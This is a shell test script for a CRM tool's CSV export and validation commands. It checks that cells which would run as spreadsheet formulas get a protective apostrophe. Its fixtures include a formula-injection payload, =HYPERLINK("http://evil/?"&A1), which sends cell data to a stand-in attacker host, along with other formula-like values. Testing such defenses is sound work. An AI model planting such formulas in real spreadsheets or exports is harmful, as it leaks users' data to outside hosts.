#!/bin/sh
# CSV for spreadsheets: a cell that would run as a formula gets a leading
# apostrophe (--excel, output files); plain numbers and pipes stay as they
# are; --keep-formulas turns it off; --fix never drops the apostrophe.
. "$(dirname "$0")/lib.sh"

cd "$T" || exit 1
printf '%s\n' 'email,first_name,last_name,city,position' \
    'a@b.ru,=HYPERLINK("http://evil/?"&A1),+7 кнопка,-5,@SUM(1)' \
    'c@d.ru,Иван,Петров,-12.50,+7' >h.csv
printf 'email,first_name,city\r\nt@b.ru,\tTab,x\r\n' >tab.csv
crm-import contacts h.csv --db s.db -q

crm-export contacts --db s.db --columns first_name,last_name,city,position --excel -q |
    tr -d '\r' | sed '1s/^\xef\xbb\xbf//' >x.csv
cat >x.want <<'E'
first_name;last_name;city;position
"'=HYPERLINK(""http://evil/?""&A1)";'+7 Кнопка;'-5;'@SUM(1)
Иван;Петров;-12.50;+7
E
# "-5" is a number, but the import kept it as a city: text, and still a
# formula to a spreadsheet?  No: a plain number is never one.
sed -i "s/;'-5;/;-5;/" x.want
diff -u x.want x.csv >/dev/null
ok "--excel: formulas get an apostrophe, numbers do not" $?
[ -n "$(crm-export contacts --db s.db --columns first_name -f csv -q | grep -x '"=HYPERLINK(""http://evil/?""&A1)"')" ]
ok "plain CSV on standard output: cells as they are (pipes)" $?
crm-export contacts --db s.db --columns first_name --excel --keep-formulas -q |
    tr -d '\r' | grep -q '^"=HYPERLINK'
ok "--keep-formulas: no apostrophe even with --excel" $?
crm-export contacts --db s.db --columns first_name --keep-formulas --excel -q |
    tr -d '\r' | grep -q '^"=HYPERLINK'
ok "--keep-formulas before --excel: the same" $?

# Header names are cells too.
printf 'email,=cmd\na@b.ru,1\n' >hdr.csv
crm-validate contacts hdr.csv --fix --excel -q 2>/dev/null | tr -d '\r' |
    sed '1s/^\xef\xbb\xbf//' | head -1 | grep -q "^email;'=cmd\$"
ok "a header that is a formula gets the apostrophe" $?

# The rejects file is opened in spreadsheets: safe by default.
printf 'email,first_name,city\nbad@b.ru,=1+2,x,extra\n' >r.csv
expect_code 1 crm-import contacts r.csv --db s.db --rejects rej.csv -q
grep -q "^bad@b.ru,'=1+2,x," rej.csv
ok "--rejects: a formula gets the apostrophe" $?
expect_code 1 crm-import contacts r.csv --db s.db --rejects rej2.csv --keep-formulas -q
grep -q "^bad@b.ru,=1+2,x," rej2.csv
ok "--rejects --keep-formulas: as it was" $?

# crm-validate --report and --changes files: safe by default.
printf 'email,first_name\n=x@b.ru ,Иван\n=bad,Пётр\n' >v.csv
crm-validate contacts v.csv --fix --report rep.csv --changes ch.csv -q >/dev/null 2>&1
grep -q "'=x@b.ru" ch.csv && ! grep -q ',=x@b.ru' ch.csv
ok "--changes: the formula gets the apostrophe" $?
grep -q ",'=bad," rep.csv && ! grep -q ',=bad' rep.csv
ok "--report: the formula gets the apostrophe" $?

# --fix keeps the apostrophe that protects a cell.
printf "email,first_name,last_name\n'=a@b.ru,'=ivan,' -x\n" >p.csv
crm-validate --fix=aggressive contacts p.csv -f csv -q 2>/dev/null | sed 1d >p.out
grep -q "^'=a@b.ru,'=ivan," p.out
ok "--fix keeps the protecting apostrophe (e-mail, name)" $?

done_testing
